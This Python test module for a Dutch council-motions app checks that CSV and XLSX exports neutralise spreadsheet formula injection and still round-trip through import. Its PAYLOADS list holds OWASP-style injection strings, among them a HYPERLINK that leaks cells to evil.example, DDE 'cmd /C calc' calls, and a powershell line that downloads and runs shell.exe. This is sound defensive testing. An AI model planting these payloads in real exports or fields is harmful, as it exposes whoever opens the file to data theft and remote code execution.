"""The public LTA export cannot attack whoever opens it (OWASP CSV injection), and our own import
reads an escaped export back to the same values."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.core.files.base import ContentFile
from django.urls import reverse

from raadsmemo.lta.models import Kind, LtaItem, StatusUpdate
from raadsmemo.lta.tables import neutralise, read_table, unneutralise
from raadsmemo.lta.transfer import plan_import
from raadsmemo.people.models import Bestuurder, Fractie
from tests.conftest import downloaded, make_item
from tests.lta.test_import_export import state, upload

# From https://owasp.org/www-community/attacks/CSV_Injection and its references.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1&B1,"Klik voor de stukken")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C powershell IEX(wget evil.example/shell.exe)'!A0",
    "'=1+1",  # already starts with an apostrophe: it must come back with it
    "- eerste punt\n- tweede punt",  # an ordinary dictum, that Excel would read as a formula
]
# A value that starts with a tab or carriage return cannot be stored (forms and import strip
# it), but the export must still neutralise it.
WHITESPACE_PAYLOADS = ["\t=1+1", "\r=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(db, gerda):
    """Items whose every text column starts like a formula, as a hostile editor could leave them."""
    fractie = Fractie.objects.create(name='=HYPERLINK("http://evil.example")')
    bestuurder = Bestuurder.objects.create(name="@Jan Jansen", role="wethouder")
    items = [
        make_item(
            f"M-{n}",
            kind=Kind.MOTIE,
            title=payload,
            text=payload,
            made_in=payload.split("\n")[0][:200],
            indieners=[fractie],
            portefeuillehouder=bestuurder,
            by=gerda,
        )
        for n, payload in enumerate(PAYLOADS, start=1)
    ]
    StatusUpdate.objects.create(item=items[0], date="2022-01-18", text="=1+1", author=gerda)
    return items


def cells_of_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.django_db
def test_the_csv_export_has_no_cell_that_starts_like_a_formula(client, hostile):
    rows = cells_of_csv(downloaded(client.get(reverse("lta:export", args=["csv"]))))
    assert len(rows) == 1 + len(PAYLOADS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    titles = [row[2] for row in rows[1:]]
    assert titles[:3] == [
        "'=1+1",
        '\'=HYPERLINK("http://evil.example/?leak="&A1&B1,"Klik voor de stukken")',
        "'+cmd|' /C calc'!A0",
    ]
    assert titles[6] == "''=1+1"
    assert rows[1][4] == '\'=HYPERLINK("http://evil.example")' and rows[1][5] == "'@Jan Jansen"


@pytest.mark.django_db
def test_the_xlsx_export_has_no_formula_only_string_cells(client, hostile):
    content = client.get(reverse("lta:export", args=["xlsx"])).content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    assert [sheet.cell(row=r, column=3).value for r in range(2, 2 + len(PAYLOADS))] == PAYLOADS


@pytest.mark.parametrize("payload", PAYLOADS + WHITESPACE_PAYLOADS)
def test_neutralise_is_undone_by_unneutralise(payload):
    assert not neutralise(payload).startswith(FORMULA_START)
    assert unneutralise(neutralise(payload)) == payload


@pytest.mark.parametrize("text", ["'s-Hertogenbosch", "'t Zandt", "Update 18-01-2022: =1+1", "2019-300", ""])
def test_ordinary_text_passes_unchanged(text):
    assert neutralise(text) == text and unneutralise(text) == text


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_escaped_export_imports_back_to_the_same_values(griffie_client, client, hostile, fmt):
    before = state()
    export = downloaded(client.get(reverse("lta:export", args=[fmt])))
    # What the import reads from each row is the stored value, not the escaped one ...
    plan = plan_import(read_table(ContentFile(export)))
    stored = {i.number: (i.title, i.text, i.made_in) for i in LtaItem.objects.all()}
    assert {r.number: (r.values["title"], r.values["text"], r.values["made_in"]) for r in plan.rows} == stored
    # ... so importing the export through the page changes nothing.
    preview = upload(griffie_client, export, name=f"lta.{fmt}")
    assert f"0 nieuw, 0 gewijzigd, {len(PAYLOADS)} ongewijzigd." in preview.content.decode()
    assert state() == before
